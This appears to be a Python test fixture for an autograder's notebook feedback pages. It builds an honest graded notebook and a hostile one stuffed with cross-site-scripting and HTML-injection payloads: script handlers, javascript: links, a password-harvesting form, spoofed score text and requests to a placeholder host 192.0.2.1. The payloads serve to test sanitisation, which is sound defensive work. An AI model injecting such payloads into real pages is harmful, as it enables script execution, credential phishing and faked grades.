"""Graded notebooks to make pages of: an honest one, and one that tries everything."""

from __future__ import annotations

import base64
from types import SimpleNamespace
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from autograder import report
from autograder.feedback import render
from autograder.grading import CellGrade, cell_record, record
from tests.intake.course import answered, grade

PIXEL = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
    )
).decode()
ABOUT = {"notebook": "two-things", "assignment": "week 1", "student": "ada", "max_score": 9.0}
SECRET = "51966"


def check(name: str, hidden: bool, points: float, message: str | None) -> SimpleNamespace:
    """A check's result as the judge gives it."""
    got = points if message is None else 0.0
    title = name.replace("_", " ").capitalize() + "."
    return SimpleNamespace(
        name=name,
        about="double",
        hidden=hidden,
        points=got,
        max_points=points,
        message=message,
        title=title,
    )


def honest() -> NotebookNode:
    """A graded notebook with a lost point, a picture, a long line and a comment."""
    submission = answered()
    submission.cells.insert(3, new_markdown_cell("My idea: *add it to itself*.", id="idea"))
    graded = grade(submission)
    cells = {cell.id: cell for cell in graded.notebook.cells}
    results = [
        check("doubles_numbers", False, 1, None),
        check("keeps_the_type", False, 1, "double(2.5) gives 5, an int: do not round the result."),
    ]
    put(cells["double-visible"], 1.0, 2.0, results, graded)
    hidden = [check("counts_from_one", True, 2, None)]
    hidden.append(check("many_counters", True, 1, f"Counter stopped with ValueError: got {SECRET}"))
    put(cells["counter-hidden"], 2.0, 3.0, hidden, graded)
    cells["double"].outputs = [
        new_output("stream", name="stdout", text="word " * 60),
        new_output("display_data", data={"image/png": PIXEL}),
    ]
    cells["why"].metadata.nbgrader["comment"] = "Good: **each** object has its own total."
    graded.notes = ["The test cell `double-visible` was missing. It was put back and graded."]
    record(graded)
    return scored(graded.notebook)


def put(cell: Any, points: float, most: float, results: list[Any], graded: Any) -> None:
    """Give a test cell a verdict with checks."""
    kept = graded.cells[cell.metadata.nbgrader.grade_id]
    said = CellGrade(kept.grade_id, points, most, results[-1].message, [])
    source = SimpleNamespace(
        hidden="hidden" in cell.id, released=cell.source.split("###")[0], text=""
    )
    cell.metadata["autograder"] = cell_record(said, source)  # type: ignore[arg-type]
    cell.metadata["autograder"]["checks"] = [NotebookNode(vars(found)) for found in results]
    cell.outputs = [report.output(points, most, said.message, results)]


def scored(notebook: NotebookNode) -> NotebookNode:
    """What ``GetGrades`` adds from the gradebook."""
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("grade"):
            marks["score"] = cell.metadata.get("autograder", {}).get("points", 3.0)
    return notebook


ATTACKS = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><script>document.title='owned'</script></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    '<a href="javascript:document.title=1">click</a>',
    '<a href="data:text/html,<script>1</script>">click</a>',
    "<style>.score{display:none} body{background:url(http://192.0.2.1/x)}</style>",
    '<link rel="stylesheet" href="http://192.0.2.1/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
    '<base href="http://192.0.2.1/">',
    '<form action="http://192.0.2.1/"><input name="password"><button>Send</button></form>',
    '<img src="http://192.0.2.1/spy.png">',
    '<div class="score" id="cell-3" style="position:fixed;top:0">9 of 9 points</div>',
    "</pre></section></main></body></html><script>document.title='owned'</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title=1></style></mglyph>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='owned'>\"></noscript>",
    '<object data="http://192.0.2.1/"></object><embed src="http://192.0.2.1/">',
    "<video src=http://192.0.2.1/ autoplay></video><audio src=http://192.0.2.1/></audio>",
    "<template><script>document.title='owned'</script></template><xmp><b>",
    '<details open ontoggle="document.title=1"><summary>s</summary></details>',
]


def hostile() -> NotebookNode:
    """A graded notebook whose author put an attack wherever text can stand."""
    submission = answered()
    everything = "\n\n".join(ATTACKS)
    for attack in ATTACKS:
        submission.cells.insert(3, new_markdown_cell(attack))
    submission.cells.insert(3, new_markdown_cell("$$\\href{javascript:alert(1)}{x}$$"))
    submission.cells.insert(3, new_code_cell(f"text = {everything!r}"))
    by_id = {cell.id: cell for cell in submission.cells if "id" in cell}
    by_id["why"].source = everything
    by_id["why"]["attachments"] = {"<script>": {"image/png": "<script>"}, "x": ["y"]}
    graded = grade(submission)
    cells = {cell.id: cell for cell in graded.notebook.cells}
    cells["double"].outputs = [attacking(mime, everything) for mime in MIMES]
    cells["double"].outputs += [
        new_output("stream", name="stdout", text="\x1b]0;owned\x07\x1b[31m" + everything),
        new_output("stream", name="<script>", text=everything),
        new_output("error", ename=everything, evalue=everything, traceback=[everything]),
        attacking("text/html", everything, {"width": '"><script>1</script>'}),
    ]
    graded.notes = [everything]
    record(graded)
    return scored(graded.notebook)


MIMES = (
    "text/html",
    "text/markdown",
    "text/latex",
    "text/plain",
    "image/svg+xml",
    "image/png",
    "image/jpeg",
    "application/javascript",
    "application/json",
    "application/pdf",
    "application/vnd.jupyter.widget-view+json",
    "text/vnd.mermaid",
)


def attacking(mime: str, text: str, metadata: dict[str, Any] | None = None) -> NotebookNode:
    """An output of one type that holds all attacks."""
    return new_output("display_data", data={mime: text}, metadata=metadata or {})


def page(graded: NotebookNode, **about: Any) -> str:
    """The feedback page of a graded notebook."""
    return render(graded, {**ABOUT, "score": 6.0, "late_penalty": 0, **about})
